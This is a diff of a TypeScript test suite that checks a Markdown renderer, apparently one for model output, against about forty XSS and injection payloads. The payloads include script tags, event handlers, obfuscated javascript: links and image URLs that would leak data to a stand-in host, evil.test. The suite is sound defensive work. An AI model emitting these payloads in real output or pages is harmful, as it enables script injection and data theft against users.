@@ -6,20 +6,56 @@ const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
 
 // What a model may write, by mistake or because somebody told it to.
 const payloads = [
-  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<iframe src="https://evil.test"></iframe>', '<a href="javascript:alert(1)">x</a>',
-  '<style>*{display:none}</style>', '<form action="https://evil.test"><input name=a></form>', '<details open ontoggle=alert(1)>', '<math><mtext></mtext></math>', '<!-- --><b onclick=alert(1)>b</b>',
-  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\tscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](\u0001javascript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)', '[x](vbscript:x)', '[x](file:///etc/passwd)', '[x](blob:https://x)',
-  '<javascript:alert(1)>', '[x]: javascript:alert(1)\n\n[x]', '[x](//evil.test)', '[x](/v1/sessions)', '[x](#/settings)',
-  '![a](https://evil.test/p.png?secret=1)', '![a](//evil.test/p.png)', '![a](data:image/svg+xml,<svg/onload=alert(1)>)', '![a][r]\n\n[r]: https://evil.test/p.png', '[![a](https://evil.test/p.png)](https://evil.test)',
-  '| a |\n|---|\n| <img src=x onerror=alert(1)> |', '```html\n<script>alert(1)</script>\n```', '`<script>alert(1)</script>`', '- [ ] <input autofocus onfocus=alert(1)>', 'a[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
-  '[x](https://ok.test" onmouseover="alert(1))', '[x](https://ok.test \'" onmouseover=alert(1) \')', '&lt;script&gt;alert(1)&lt;/script&gt;', '\u202Egnp.exe', '\u0000<script>', '[a](<https://ok.test/>"onclick=alert(1)>)',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<iframe src="https://evil.test"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<style>*{display:none}</style>',
+  '<form action="https://evil.test"><input name=a></form>',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext></mtext></math>',
+  '<!-- --><b onclick=alert(1)>b</b>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '[x](vbscript:x)',
+  '[x](file:///etc/passwd)',
+  '[x](blob:https://x)',
+  '<javascript:alert(1)>',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '[x](//evil.test)',
+  '[x](/v1/sessions)',
+  '[x](#/settings)',
+  '![a](https://evil.test/p.png?secret=1)',
+  '![a](//evil.test/p.png)',
+  '![a](data:image/svg+xml,<svg/onload=alert(1)>)',
+  '![a][r]\n\n[r]: https://evil.test/p.png',
+  '[![a](https://evil.test/p.png)](https://evil.test)',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '```html\n<script>alert(1)</script>\n```',
+  '`<script>alert(1)</script>`',
+  '- [ ] <input autofocus onfocus=alert(1)>',
+  'a[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
+  '[x](https://ok.test" onmouseover="alert(1))',
+  "[x](https://ok.test '\" onmouseover=alert(1) ')",
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '\u202Egnp.exe',
+  '\u0000<script>',
+  '[a](<https://ok.test/>"onclick=alert(1)>)',
 ];
 
 describe('Markdown of strangers', () => {
   it.each(payloads)('does nothing: %j', (payload) => {
     const out = html(payload);
-    expect(out).not.toMatch(/<(script|img|svg|iframe|style|form|input|object|embed|link|meta|base|video|audio|math)\b/i);
-    for (const [tag] of out.matchAll(/<[a-z][^>]*>/gi)) { // within tags alone: as text anything may stand
+    expect(out).not.toMatch(
+      /<(script|img|svg|iframe|style|form|input|object|embed|link|meta|base|video|audio|math)\b/i,
+    );
+    for (const [tag] of out.matchAll(/<[a-z][^>]*>/gi)) {
+      // within tags alone: as text anything may stand
       expect(tag.replace(/="[^"]*"/g, '=')).not.toMatch(/\s(on\w+|src|style)=/i);
       const href = /\shref="([^"]*)"/.exec(tag)?.[1];
       if (href !== undefined) expect(href).toMatch(/^(https?:|mailto:)/);
@@ -28,7 +64,9 @@ describe('Markdown of strangers', () => {
 
   it('says that an image was not loaded, and where a link goes', () => {
     expect(html('![a cat](https://evil.test/p.png)')).toContain('a cat');
-    expect(html('[here](https://ok.test/a)')).toMatch(/href="https:\/\/ok\.test\/a" title="https:\/\/ok\.test\/a" target="_blank" rel="noopener noreferrer nofollow"/);
+    expect(html('[here](https://ok.test/a)')).toMatch(
+      /href="https:\/\/ok\.test\/a" title="https:\/\/ok\.test\/a" target="_blank" rel="noopener noreferrer nofollow"/,
+    );
   });
 
   it('is still Markdown', () => {
